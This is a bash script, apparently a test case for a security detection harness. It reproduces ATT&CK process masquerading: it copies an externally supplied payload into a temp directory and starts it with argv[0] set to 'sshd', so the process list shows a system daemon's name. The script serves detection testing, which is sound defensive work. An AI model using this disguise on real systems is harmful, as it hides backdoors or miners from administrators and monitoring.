#!/bin/bash
# technique: T1036.005 Masquerading: Match Legitimate Name or Location; T1036.011 Masquerading: Overwrite Process Arguments
# reproduces: backdoors and miners started from /tmp under a system daemon's name so that `ps` shows "sshd" (ATT&CK T1036.005 procedure examples, e.g. TeamTNT and Rocke miners)
# expect: masquerade-process-name ^sshd$
# exec-borne: yes
#
# The payload is copied to the temp dir under a bland name and started
# with argv[0] "sshd".
set -u

drop=$(mktemp -d "${BW_ATTACK_TMP:?}/tmp.XXXXXXXX")
trap 'rm -rf "$drop"' EXIT

install -m 0755 "${BW_ATTACK_PAYLOAD:?}" "$drop/x-session-helper"

start_as() {
	local name=$1 prog=$2
	shift 2
	( exec -a "$name" "$prog" "$@" )
}

start_as sshd "$drop/x-session-helper" -D
